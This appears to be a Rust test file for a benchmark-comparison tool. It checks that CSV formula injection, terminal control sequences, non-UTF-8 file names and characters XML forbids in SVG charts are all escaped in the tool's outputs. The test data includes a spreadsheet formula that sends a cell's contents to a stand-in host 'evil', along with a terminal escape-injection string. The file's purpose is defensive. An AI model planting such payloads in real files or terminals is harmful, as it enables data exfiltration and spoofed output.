//! Names from input files as they land in the documents: CSV cells a
//! spreadsheet would run as formulas, control characters in
//! `--display gbench`, the bytes of non-UTF-8 file names in the JSON, CSV
//! and markdown, and characters XML forbids in SVG charts.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

use serde_json::{Value, json};

use crate::util::{Bench, Doc, Scratch, State, Times, command, run, stderr};

const LINK: &str = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";

fn times(seconds: f64) -> Times {
    Times::around(seconds, [0.99, 0.995, 1.005])
        .max(seconds * 1.02)
        .iqr(0.01)
        .clock(1.5e9)
}

/// One benchmark `name` with a string axis `axis` of the given values, on a
/// device named `device`.
fn doc(name: &str, device: &str, axis: &str, values: &[&str], scale: f64) -> Doc {
    let states = values
        .iter()
        .map(|value| State::on(0).at(axis, value).times(times(1e-3 * scale)));
    Doc::new()
        .device(0, device)
        .bench(Bench::new(name).axis(axis, "string").states(states))
}

/// The fields of RFC 4180 CSV text (quoted fields may hold commas, quotes
/// and line breaks).
fn csv_lines(text: &str) -> Vec<Vec<String>> {
    let mut lines = vec![];
    let (mut line, mut field) = (vec![], String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => line.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                line.push(std::mem::take(&mut field));
                lines.push(std::mem::take(&mut line));
            }
            (false, c) => field.push(c),
        }
    }
    lines
}

const NUMBER_COLUMNS: [&str; 4] = ["base_time_s", "time_s", "speedup", "delta"];

#[test]
fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
    let dir = Scratch::new("csv-formulas");
    let values = ["+cmd", "-2+3", "-5", "\tx", "plain"];
    dir.write("ref.json", doc(LINK, "@SUM(1)", "=ax", &values, 1.0).text());
    dir.write("cmp.json", doc(LINK, "@SUM(1)", "=ax", &values, 0.5).text());
    dir.write(
        "cmp2.json",
        doc(LINK, "@SUM(1)", "=ax", &values, 2.0).text(),
    );
    let runs: [&[&str]; 2] = [
        &["--csv", "-", "ref.json", "cmp.json"],
        &[
            "--csv",
            "-",
            "--labels",
            "=base,@one,-two",
            "ref.json",
            "--vs",
            "cmp.json",
            "--vs",
            "cmp2.json",
        ],
    ];
    for args in runs {
        let out = run(&dir, args);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let lines = csv_lines(std::str::from_utf8(&out.stdout).unwrap());
        let header = &lines[0];
        assert!(header.contains(&"'=ax".to_string()), "{header:?}");
        for line in &lines[1..] {
            assert_eq!(line.len(), header.len());
            assert_eq!(line[0], format!("'{LINK}"));
            assert_eq!(line[2], "'@SUM(1)");
            for (name, field) in header.iter().zip(line) {
                if NUMBER_COLUMNS.contains(&name.as_str()) {
                    field
                        .parse::<f64>()
                        .unwrap_or_else(|_| panic!("{name}: {field:?}"));
                } else if field.starts_with(['=', '+', '@', '\t', '\r', '-']) {
                    assert!(field.parse::<f64>().is_ok(), "{name}: {field:?}");
                }
            }
        }
        let axis = header.iter().position(|h| h == "'=ax").unwrap();
        let shown: Vec<&str> = lines[1..6].iter().map(|l| l[axis].as_str()).collect();
        assert_eq!(shown, ["'+cmd", "'-2+3", "-5", "'\tx", "plain"]);
    }
    let nway = run(&dir, runs[1]);
    let text = String::from_utf8_lossy(&nway.stdout);
    assert!(
        text.contains(",'=base,'@one,") && text.contains(",'=base,'-two,"),
        "{text}"
    );
}

/// A Google Benchmark file of runs `(name, ns)`, ten repetitions each.
fn gbench(runs: &[(&str, f64)]) -> Value {
    let mut entries = Vec::new();
    for (family, (name, ns)) in runs.iter().enumerate() {
        for index in 0..10 {
            let time = ns * (1.0 + 0.0004 * (f64::from(index) - 4.5));
            entries.push(json!({
                "name": name, "family_index": family, "per_family_instance_index": 0,
                "run_name": name, "run_type": "iteration", "repetitions": 10,
                "repetition_index": index, "threads": 1, "iterations": 1000,
                "real_time": time, "cpu_time": time, "time_unit": "ns",
            }));
        }
    }
    json!({
        "context": {"host_name": "host", "num_cpus": 8, "caches": [],
                    "library_build_type": "release", "json_schema_version": 1},
        "benchmarks": entries,
    })
}

#[test]
fn the_gbench_display_escapes_control_characters_in_names() {
    let dir = Scratch::new("gbench-control");
    let names = [
        ("BM_\u{1b}]0;owned\u{7}x", 100.0),
        ("BM_a\nFAKE LINE", 200.0),
    ];
    let file = serde_json::to_vec(&gbench(&names)).unwrap();
    dir.write("ref.json", &file);
    dir.write("cmp.json", &file);
    for color in [&[][..], &["--no-color"][..]] {
        let mut args = vec!["--display", "gbench"];
        args.extend(color);
        args.extend(["ref.json", "cmp.json"]);
        let out = run(&dir, &args);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        let without_colors = text.replace("\u{1b}[", "");
        assert!(!without_colors.contains(['\u{1b}', '\u{7}']), "{text:?}");
        assert!(text.contains("BM_\\u{1b}]0;owned\\u{7}x"), "{text:?}");
        assert!(text.contains("BM_a\\nFAKE LINE"), "{text:?}");
        assert!(
            !text.lines().any(|line| line.starts_with("FAKE")),
            "{text:?}"
        );
    }
}

/// `bytes` as lowercase hex.
fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn non_utf8_file_names_are_valid_text_with_their_bytes_in_the_json() {
    let dir = Scratch::new("odd-names");
    let names: [&[u8]; 3] = [b"r\xff.json", b"c\xfe.json", b"d\x80.json"];
    for (name, scale) in names.iter().zip([1.0, 0.5, 2.0]) {
        let text = doc("b", "GPU", "S", &["x"], scale).text();
        std::fs::write(dir.join(OsStr::from_bytes(name)), text).unwrap();
    }
    let path = |i: usize| OsStr::from_bytes(names[i]);

    let pair = command(&dir)
        .args(["--json", "-"])
        .args([path(0), path(1)])
        .output()
        .unwrap();
    assert_eq!(pair.status.code(), Some(0), "{}", stderr(&pair));
    let report: Value = serde_json::from_slice(&pair.stdout).expect("strict JSON");
    let state = &report["states"][0];
    assert_eq!(state["reference_json"], "r\\xff.json");
    assert_eq!(state["reference_json_bytes"], hex(names[0]));
    assert_eq!(state["compare_json_bytes"], hex(names[1]));
    assert!(state.get("benchmark_bytes").is_none());

    let nway = command(&dir)
        .args([
            "--json",
            "-",
            "--csv",
            "out.csv",
            "--markdown-summary",
            "out.md",
        ])
        .args([
            path(0),
            OsStr::new("--vs"),
            path(1),
            OsStr::new("--vs"),
            path(2),
        ])
        .output()
        .unwrap();
    assert_eq!(nway.status.code(), Some(0), "{}", stderr(&nway));
    let report: Value = serde_json::from_slice(&nway.stdout).expect("strict JSON");
    assert_eq!(report["baseline"]["paths"], json!(["r\\xff.json"]));
    assert_eq!(report["baseline"]["paths_bytes"], json!([hex(names[0])]));
    assert_eq!(report["baseline"]["label_bytes"], hex(b"r\xff"));
    assert_eq!(
        report["candidates"][1]["paths_bytes"],
        json!([hex(names[2])])
    );
    for document in ["out.csv", "out.md"] {
        let text = std::fs::read(dir.join(document)).unwrap();
        let text = String::from_utf8(text).expect("UTF-8");
        assert!(text.contains("r\\xff"), "{document}: {text}");
        assert!(
            !text.chars().any(|c| ('\u{E000}'..).contains(&c)),
            "{document}"
        );
    }
}

#[test]
fn characters_xml_forbids_never_reach_an_svg_chart() {
    let dir = Scratch::new("svg-forbidden");
    let name = "bench\u{fffe}\u{ffff}\u{7}";
    dir.write(
        "ref.json",
        doc(name, "GPU\u{fffe}", "S", &["v\u{ffff}"], 1.0).text(),
    );
    dir.write(
        "cmp.json",
        doc(name, "GPU\u{fffe}", "S", &["v\u{ffff}"], 2.0).text(),
    );
    let args = [
        "--plot",
        "--plot-output",
        "chart.svg",
        "ref.json",
        "cmp.json",
    ];
    let out = run(&dir, &args);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let svg = std::fs::read_to_string(dir.join("chart.svg")).unwrap();
    roxmltree::Document::parse(&svg).expect("the chart is well-formed XML");
    assert!(svg.contains("bench\\u{fffe}\\u{ffff}\\u{7}"), "{svg}");
}
